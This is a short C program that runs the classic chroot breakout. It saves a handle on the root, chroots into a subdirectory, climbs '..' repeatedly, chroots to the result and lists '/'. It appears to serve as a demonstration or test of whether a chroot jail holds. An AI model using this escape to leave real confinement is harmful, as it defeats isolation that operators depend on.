/* The old way out of a chroot, for a process that may call chroot(2): prints what the root is in the end. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
	int above = open("/", O_RDONLY | O_DIRECTORY);
	mkdir("/tmp/below", 0700);
	if (above < 0 || chroot("/tmp/below") < 0 || fchdir(above) < 0)
		return 2;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return 3;
	if (chroot(".") < 0)
		return 4;
	return execl("/bin/busybox", "busybox", "ls", "/", (char *)0);
}
